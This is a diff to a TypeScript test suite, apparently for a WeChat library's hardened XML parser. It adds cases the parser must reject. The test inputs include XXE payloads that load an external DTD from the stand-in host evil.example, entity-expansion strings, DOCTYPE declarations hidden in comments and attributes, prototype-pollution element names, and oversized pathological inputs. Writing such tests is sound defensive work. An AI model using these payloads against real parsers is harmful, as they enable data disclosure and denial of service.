@@ -7,6 +7,7 @@ import {
   parseXml,
   UnsafeXmlError,
   WeChatArgumentError,
+  WeChatCallbackError,
   XmlTooLargeError,
 } from '@mirror/wechat';
 
@@ -60,9 +61,49 @@ describe('parseXml', () => {
       '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><xml><A>&lol2;</A></xml>',
       'DOCTYPE',
     ],
+    [
+      'a parameter entity',
+      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>',
+      'DOCTYPE',
+    ],
+    ['an external DTD', '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml><A>1</A></xml>', 'DOCTYPE'],
+    ['a DOCTYPE after the root', '<xml><A>1</A></xml><!DOCTYPE x>', 'DOCTYPE'],
+    ['a DOCTYPE with a space after <!', '<! DOCTYPE x><xml/>', 'DOCTYPE'],
+    ['an ELEMENT declaration', '<xml><!ELEMENT a ANY><A>1</A></xml>', 'ELEMENT'],
+    ['an ATTLIST declaration', '<xml><!ATTLIST a b CDATA #IMPLIED><A>1</A></xml>', 'ATTLIST'],
+    ['a NOTATION declaration', '<xml><!NOTATION n SYSTEM "x"><A>1</A></xml>', 'NOTATION'],
+    [
+      'a DOCTYPE after an unterminated comment',
+      '<!-- <!DOCTYPE x [<!ENTITY e "e">]><xml><A>&e;</A></xml>',
+      'DOCTYPE',
+    ],
+    [
+      'a DOCTYPE that a processing instruction hides from the first scan',
+      '<?pi <!-- ?><!DOCTYPE x [<!ENTITY e "pwned">]><xml><A>&e;</A><!-- --></xml>',
+      'DOCTYPE',
+    ],
   ])('refuses %s', (_label, xml, construct) => {
     expect(() => parseXml(xml)).toThrow(UnsafeXmlError);
     expect(() => parseXml(xml)).toThrow(construct);
+  });
+
+  it('refuses a DOCTYPE hidden in an attribute value, whatever it declares', () => {
+    for (const xml of [
+      '<xml a="<!--"><!DOCTYPE x [<!ENTITY e "pwned">]><A>&e;</A>--></xml>',
+      '<xml a="<![CDATA["><!DOCTYPE x [<!ENTITY e "pwned">]><A>&e;</A>]]>"</xml>',
+    ]) {
+      expect(() => parseXml(xml)).toThrow(WeChatCallbackError);
+    }
+  });
+
+  it('refuses UTF-16, with or without a byte-order mark', () => {
+    const xml = '<!DOCTYPE x [<!ENTITY e "e">]><xml><A>&e;</A></xml>';
+    expect(() => parseXml(Buffer.from(`\uFEFF${xml}`, 'utf16le'))).toThrow(MalformedXmlError);
+    expect(() => parseXml(Buffer.from(xml, 'utf16le'))).toThrow(MalformedXmlError);
+  });
+
+  it('allows "<!DOCTYPE" inside a comment', () => {
+    expect(parseXml('<!-- <!DOCTYPE x> --><xml><A>1</A></xml>')).toEqual({ A: '1' });
   });
 
   it('allows the text "<!DOCTYPE" inside CDATA (a customer may type it)', () => {
@@ -93,6 +134,18 @@ describe('parseXml', () => {
     ['a bad attribute', '<xml a=1><A>1</A></xml>'],
     ['a bad element name', '<xml><1A>1</1A></xml>'],
     ['elements nested too deep', `<xml>${'<a>'.repeat(40)}${'</a>'.repeat(40)}</xml>`],
+    ['elements nested one level too deep', `<xml>${'<a>'.repeat(32)}${'</a>'.repeat(32)}</xml>`],
+    ['text after a self-closing root', '<xml/>junk'],
+    ['text after a self-closing root, then a comment', '<xml/>junk<!-- c -->'],
+    ['a < inside an attribute value', '<xml a="<"><A>1</A></xml>'],
+    ['a repeated attribute', '<xml a="1" a="2"><A>1</A></xml>'],
+    ['markup other than CDATA and comments', '<xml><A><![INCLUDE[x]]></A></xml>'],
+    ['an unknown <! construct', '<xml><!foo><A>1</A></xml>'],
+    ['an unterminated processing instruction', '<xml/><?pi '],
+    ['an unterminated comment after the root', '<xml/><!-- x'],
+    ['an entity named like an Object property', '<xml><A>&constructor;</A></xml>'],
+    ['an empty character reference', '<xml><A>&#x;</A></xml>'],
+    ['a surrogate character reference', '<xml><A>&#xD800;</A></xml>'],
   ])('refuses %s as malformed', (_label, xml) => {
     expect(() => parseXml(xml)).toThrow(MalformedXmlError);
   });
@@ -136,10 +189,43 @@ describe('parseXml', () => {
     );
   });
 
-  it('never lets an element named __proto__ touch the prototype', () => {
-    const sut = parseXml('<xml><__proto__><polluted>1</polluted></__proto__></xml>');
-    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
-    expect(Object.getPrototypeOf(sut)).toBe(Object.prototype);
+  it('accepts nesting up to 32 levels, the root included', () => {
+    const sut = parseXml(`<xml>${'<a>'.repeat(31)}${'</a>'.repeat(31)}</xml>`);
+    expect(JSON.stringify(sut)).toBe(`${'{"a":'.repeat(31)}""${'}'.repeat(31)}`);
+  });
+
+  it.each(['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'])(
+    'refuses an element named %s, and the prototype stays untouched',
+    (name) => {
+      expect(() => parseXml(`<xml><${name}><polluted>1</polluted></${name}></xml>`)).toThrow(
+        MalformedXmlError,
+      );
+      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
+      expect(Object.getPrototypeOf(parseXml('<xml><A>1</A></xml>'))).toBe(Object.prototype);
+    },
+  );
+
+  it('ignores attribute values, after checking them', () => {
+    expect(parseXml('<xml a="&amp;" b="x>y"><A>1</A></xml>')).toEqual({ A: '1' });
+    expect(() => parseXml('<xml a="&nbsp;"><A>1</A></xml>')).toThrow(MalformedXmlError);
+  });
+
+  it('turns CR and CRLF inside CDATA into LF, as XML requires, and keeps &#13;', () => {
+    expect(parseXml('<xml><A><![CDATA[a\r\nb\rc]]></A><B>&#13;</B></xml>')).toEqual({
+      A: 'a\nb\nc',
+      B: '\r',
+    });
+  });
+
+  it.each([
+    ['comment openers after a declaration in CDATA', `<![CDATA[<!DOCTYPE]]>${'<!--'.repeat(15_000)}`],
+    ['CDATA openers after a declaration in CDATA', `<![CDATA[<!DOCTYPE]]>${'<![CDATA['.repeat(7_000)}`],
+    ['unclosed tags', '<xml>'.repeat(12_000)],
+    ['bare markup openers', `<xml>${'<!'.repeat(30_000)}</xml>`],
+  ])('refuses 60 KiB of %s in linear time', (_label, xml) => {
+    const started = performance.now();
+    expect(() => parseXml(xml)).toThrow(WeChatCallbackError);
+    expect(performance.now() - started).toBeLessThan(150);
   });
 });
 
@@ -148,6 +234,12 @@ describe('cdata', () => {
     const text = 'a]]>b]]]]>c]]>';
     const xml = `<xml><A>${cdata(text)}</A></xml>`;
     expect(parseXml(xml).A).toBe(text);
+  });
+
+  it('writes CR as a reference between sections, so that it survives a round trip', () => {
+    const text = 'a\r\nb\rc';
+    expect(cdata(text)).toBe('<![CDATA[a]]>&#13;<![CDATA[\nb]]>&#13;<![CDATA[c]]>');
+    expect(parseXml(`<xml><A>${cdata(text)}</A></xml>`).A).toBe(text);
   });
 
   it('drops characters XML cannot carry', () => {
